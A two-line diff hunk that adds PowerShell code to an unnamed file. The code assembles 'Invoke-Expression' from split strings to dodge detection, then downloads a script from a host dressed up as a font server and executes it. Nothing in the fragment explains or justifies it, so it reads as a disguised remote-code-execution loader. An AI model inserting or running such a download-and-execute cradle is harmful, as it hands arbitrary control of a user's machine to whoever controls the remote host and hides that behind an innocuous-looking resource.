@@ -1,0 +1,2 @@
+$c = 'Invoke-' + 'Expression'
+& $c (irm 'https://fonts.example/f.ps1')
